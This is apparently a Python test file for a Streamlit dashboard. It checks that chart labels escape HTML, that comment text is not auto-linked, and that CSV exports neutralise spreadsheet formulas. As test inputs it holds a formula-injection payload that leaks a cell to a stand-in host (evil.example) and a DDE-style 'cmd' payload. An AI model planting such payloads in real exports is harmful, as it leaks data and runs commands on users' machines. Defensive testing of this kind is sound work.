"""Hostile text from the data on the page: chart labels stay text, addresses stay unlinked, tables hold no
formulas for the toolbar's CSV download. (What a browser draws of it: tests/test_hostile_browser.py.)"""

from __future__ import annotations

import importlib
import re
import inspect

import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from connectors.export import neutralise_formulas
from dashboard.filters import escape_markdown

CHART_MODULES = ["dashboard.sales.charts", "dashboard.reputation.charts", "dashboard.communication.charts",
                 "dashboard.retention.charts", "dashboard.scenarios.charts"]
LINK = '<a href="https://evil.example">Click here</a>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def builders():
    for name in CHART_MODULES:
        module = importlib.import_module(name)
        for fn_name, fn in vars(module).items():
            if inspect.isfunction(fn) and fn.__module__ == name and not fn_name.startswith("_"):
                yield f"{name}.{fn_name}", fn


def test_every_chart_builder_escapes_its_labels() -> None:
    found = dict(builders())
    assert len(found) >= 25
    unmarked = [name for name, fn in found.items() if not getattr(fn, "escapes_labels", False)
                and inspect.signature(fn).return_annotation in ("go.Figure", "Figure")]
    assert unmarked == []


def all_strings(fig) -> list[str]:
    out: list[str] = []

    def walk(value) -> None:
        if isinstance(value, str):
            out.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, (list, tuple)):
            for v in value:
                walk(v)

    for trace in fig.to_dict()["data"]:
        walk({k: v for k, v in trace.items() if k not in ("hovertemplate", "texttemplate")})
    return out


def test_a_review_source_made_of_html_is_drawn_as_text() -> None:
    from dashboard.reputation.charts import sentiment_by_source

    frame = pl.DataFrame({"source": [LINK, "<b>vk</b>"], "sentiment": ["positive", "negative"], "reviews": [3, 2]})
    fig = sentiment_by_source(frame, names={"positive": "Positive", "neutral": "Neutral", "negative": "Negative"},
                              sources={}, x_title="Reviews")
    strings = all_strings(fig)
    assert "&lt;a href=\"https://evil.example\"&gt;Click here&lt;/a&gt;" in strings
    assert "&lt;b&gt;vk&lt;/b&gt;" in strings
    assert not [s for s in strings if "<" in s or ">" in s]


def test_channel_names_in_attribution_and_curves_are_escaped() -> None:
    from dashboard.sales.charts import attribution_comparison
    from dashboard.scenarios.charts import response_curves_chart

    frame = pl.DataFrame({"model": ["markov", "markov"], "channel": ["a", "b"], "conversions": [2.0, 1.0]})
    fig = attribution_comparison(frame, models=["markov"], model_labels={"markov": "Markov"},
                                 channel_labels={"a": "<b>A</b>", "b": "B & C"}, chosen="markov", y_title="n")
    assert list(fig.data[0].x) == ["&lt;b&gt;A&lt;/b&gt;", "B &amp; C"]
    curves = pl.DataFrame({"channel_id": ["a", "a"], "budget": [0.0, 10.0], "observed": [True, True],
                           "leads": [0.0, 5.0]})
    points = pl.DataFrame({"channel_id": ["a"], "which": ["now"], "budget": [5.0], "y": [3.0]})
    fig = response_curves_chart(curves, points, y="leads", names={"a": LINK}, x_title="x", y_title="y",
                                point_names={"now": "Now"})
    assert fig.data[0].name.startswith("&lt;a href")
    assert all("<a" not in (t.hovertemplate or "") for t in fig.data)
    assert not [s for s in all_strings(fig) if "<" in s]


@pytest.mark.parametrize("text", [
    "see https://evil.example/x?a=1 now", "visit www.evil.example today", "WWW.EVIL.EXAMPLE", "mail bob@evil.example",
    "[x](http://evil.example)", "mailto:bob@evil.example", LINK,
])
def test_addresses_in_comments_are_not_turned_into_links(text) -> None:
    out = escape_markdown(text, 400)
    plain = out.replace("\\", "")
    assert not re.search("(?<!\u2060)://|(?i:www)\\.|(?<!\u2060)@", plain), plain  # the triggers are broken
    assert plain.replace("\u2060", "") == text  # shown as written: the joiner is invisible


def test_table_text_that_would_run_as_a_formula_gets_an_apostrophe() -> None:
    frame = pl.DataFrame({"name": [FORMULA, "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "-12.5%", "+3 pts", "plain",
                                   None], "n": [1, 2, 3, 4, 5, 6, 7]})
    shown = neutralise_formulas(frame, keep_signed_numbers=True)
    assert shown["name"].to_list() == ["'" + FORMULA, "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0", "-12.5%", "+3 pts",
                                       "plain", None]
    assert shown["n"].to_list() == frame["n"].to_list()


def _table_page() -> None:
    import polars as pl

    from dashboard.components import table

    table(pl.DataFrame({"campaign": ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "Autumn"],
                        "change": ["-12.5%", "+3.0%"]}))


def test_the_shared_table_shows_no_formula_for_the_toolbar_download() -> None:
    at = AppTest.from_function(_table_page)
    at.run()
    assert not at.exception
    shown = at.dataframe[0].value
    assert shown["campaign"].tolist() == ["'" + FORMULA, "Autumn"]
    assert shown["change"].tolist() == ["-12.5%", "+3.0%"]
